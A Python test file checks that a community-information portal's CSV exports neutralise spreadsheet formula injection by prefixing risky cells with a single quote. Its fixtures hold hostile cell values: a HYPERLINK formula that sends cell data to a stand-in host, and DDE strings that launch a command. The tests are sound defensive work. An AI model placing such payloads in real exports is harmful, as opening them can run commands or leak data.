"""The Data & Angka exports are safe to open in a spreadsheet: no text cell starts a formula.

KIM names, kecamatan, desa and the titles of remote feeds are written by volunteers or by
other web sites; a cell starting with = + - @ (or a tab, a carriage return, a full-width
form) would run as a formula in Excel or LibreOffice. Each such cell gets a leading single
quote (the OWASP rule). The CSV is read back with Python's csv module, as a program would.
"""

from __future__ import annotations

import csv
import io
import shutil
from dataclasses import replace
from pathlib import Path

import pytest

from kimsite.fetch import remote
from kimsite.build import BuildOptions, build
from kimsite.portal.exports import FORMULA_STARTS, spreadsheet_cell
from test_portal import FIXTURE, NOW, OTHER_PORTAL, fixture_feeds

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
    "kecamatan": "+cmd|' /C calc'!A0",
    "desa": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FEED_TITLE = "-2+3+cmd|' /C calc'!A0"


@pytest.fixture
def exported(tmp_path: Path) -> tuple[Path, list[dict]]:
    root = tmp_path / "ws"
    shutil.copytree(FIXTURE, root)
    site = root / "sites/kim-alpha.yaml"
    site.write_text("".join(f"{key}: '{value.replace(chr(39), chr(39) * 2)}'\n" for key, value in HOSTILE.items())
                    + "description: KIM Desa Satu.\n", encoding="utf-8")
    portal = root / "sites/kabupaten.yaml"
    portal.write_text(portal.read_text(encoding="utf-8").replace("  - Alpha\n", f"  - \"{HOSTILE['kecamatan']}\"\n"),
                      encoding="utf-8")
    feeds = fixture_feeds()
    remote.save(root, "kim-luar", feeds["kim-luar"])
    remote.save(root, OTHER_PORTAL, replace(feeds[OTHER_PORTAL], title=FEED_TITLE))
    inputs = {path: path.read_bytes() for path in sorted((root / "sites").iterdir())}
    build(root, BuildOptions(now=NOW, jobs=1))
    assert {path: path.read_bytes() for path in sorted((root / "sites").iterdir())} == inputs
    raw = (root / "_site/data/aktivitas-kim.csv").read_bytes()
    return root, list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_hostile_names_places_and_feed_titles_are_text_in_the_csv(exported):
    _root, rows = exported
    alpha = next(row for row in rows if row["id"] == "kim-alpha")
    assert alpha["nama"] == "'" + HOSTILE["name"]
    assert alpha["kecamatan"] == "'" + HOSTILE["kecamatan"]
    assert alpha["desa"] == "'" + HOSTILE["desa"]
    assert any(row["nama"] == "'" + FEED_TITLE for row in rows), [row["nama"] for row in rows]
    for row in rows:
        for column, cell in row.items():
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (column, cell)
    assert alpha["jumlah_artikel"] == "3"  # numbers stay numbers


def test_the_json_export_keeps_the_names_as_written(exported):
    import json

    root, _rows = exported
    data = json.loads((root / "_site/data/data-angka.json").read_text(encoding="utf-8"))
    alpha = next(kim for kim in data["kim"] if kim["id"] == "kim-alpha")
    assert alpha["nama"] == HOSTILE["name"]  # JSON is read by programs, not run as formulas


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "  =1", "\uff1d1+1",
                                  "\uff0b1", "\uff0d1", "\uff201"])
def test_every_formula_start_is_neutralised(cell):
    assert spreadsheet_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["KIM Maju", "a=b", "2026-06", "", "Desa -", 5, -3, 0.5, True])
def test_ordinary_cells_are_left_alone(cell):
    assert spreadsheet_cell(cell) == cell
